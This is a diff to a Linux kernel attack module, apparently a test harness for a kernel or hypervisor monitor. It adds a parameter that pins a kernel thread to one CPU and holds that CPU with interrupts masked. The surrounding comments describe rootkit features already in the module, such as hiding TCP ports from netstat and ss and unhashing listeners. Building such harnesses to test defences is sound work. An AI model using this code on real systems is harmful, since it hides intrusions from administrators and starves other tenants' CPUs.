@@ -43,6 +43,12 @@
  *                   (DKOM): /proc/net/tcp, netstat and ss lose it, and new connections to N
  *                   are refused, while connections it accepted before go on. Unloading
  *                   hashes it again. Needs TCP/IP (refused without CONFIG_INET)
+ *   hog_ms=M        hold CPU hog_cpu (default 0) for M ms with interrupts masked, from a
+ *     hog_cpu=C     kernel thread bound to it: a vCPU that never leaves the guest by
+ *                   itself (no interrupt it takes, no timer of its own), which must not keep
+ *                   a core the hypervisor shares with another guest's vCPU. Says
+ *                   "held cpu C for M ms" in the kernel log when done; insmod returns
+ *                   once the thread holds the CPU
  *
  * Architectures: arm64 (Debian's cloud kernels) and 32-bit ARM (the versatilepb guest's 6.1
  * kernel, ARMv5). vbar, inline_hook and kprobe_hook are arm64 only: elsewhere insmod fails
@@ -67,6 +73,8 @@
 #include <linux/file.h>
 #include <linux/fs.h>
 #include <linux/kallsyms.h>
+#include <linux/kthread.h>
+#include <linux/ktime.h>
 #include <linux/kprobes.h>
 #include <linux/magic.h>
 #include <linux/mm.h>
@@ -177,6 +185,14 @@ MODULE_PARM_DESC(hide_port, "TCP port to hide from /proc/net/tcp and tcp6 (0: no
 static int unhash_port;
 module_param(unhash_port, int, 0444);
 MODULE_PARM_DESC(unhash_port, "TCP port whose listener is unlinked from the hash table (0: none)");
+
+static int hog_cpu;
+module_param(hog_cpu, int, 0444);
+MODULE_PARM_DESC(hog_cpu, "with hog_ms: the CPU to hold");
+
+static int hog_ms;
+module_param(hog_ms, int, 0444);
+MODULE_PARM_DESC(hog_ms, "hold CPU hog_cpu this many ms with interrupts masked (0: none)");
 
 static atomic_long_t calls = ATOMIC_LONG_INIT(0);
 static atomic_t in_hook = ATOMIC_INIT(0);
@@ -1060,8 +1076,56 @@ static int unhash_listener(void)
 static void rehash_listener(void) { }
 #endif
 
+static struct task_struct *hog_task;
+static DECLARE_COMPLETION(hog_holding);
+
+/* mdelay waits on the counter, which runs with interrupts masked. */
+static int hog_fn(void *unused)
+{
+	ktime_t start = ktime_get();
+
+	complete(&hog_holding);
+	local_irq_disable();
+	mdelay(hog_ms);
+	local_irq_enable();
+	pr_info(PFX "held cpu %d for %lld ms\n", smp_processor_id(),
+		ktime_ms_delta(ktime_get(), start));
+	while (!kthread_should_stop()) {
+		set_current_state(TASK_INTERRUPTIBLE);
+		if (!kthread_should_stop())
+			schedule();
+		__set_current_state(TASK_RUNNING);
+	}
+	return 0;
+}
+
+static int start_hog(void)
+{
+	if (hog_ms < 0 || hog_cpu < 0 || hog_cpu >= nr_cpu_ids || !cpu_online(hog_cpu))
+		return -EINVAL;
+	hog_task = kthread_create(hog_fn, NULL, "mamoru_hog");
+	if (IS_ERR(hog_task)) {
+		int err = PTR_ERR(hog_task);
+
+		hog_task = NULL;
+		return err;
+	}
+	kthread_bind(hog_task, hog_cpu);
+	wake_up_process(hog_task);
+	wait_for_completion(&hog_holding);	/* insmod returns with the CPU held */
+	return 0;
+}
+
+static void stop_hog(void)
+{
+	if (hog_task)
+		kthread_stop(hog_task);
+	hog_task = NULL;
+}
+
 static void undo(void)
 {
+	stop_hog();
 	rehash_listener();
 	unhook_ports();
 	text_undo();
@@ -1097,6 +1161,8 @@ static int __init mamoru_attack_init(void)
 		err = hook_ports();
 	if (!err && unhash_port)
 		err = unhash_listener();
+	if (!err && hog_ms)
+		err = start_hog();
 	if (err) {
 		undo();
 		return err;
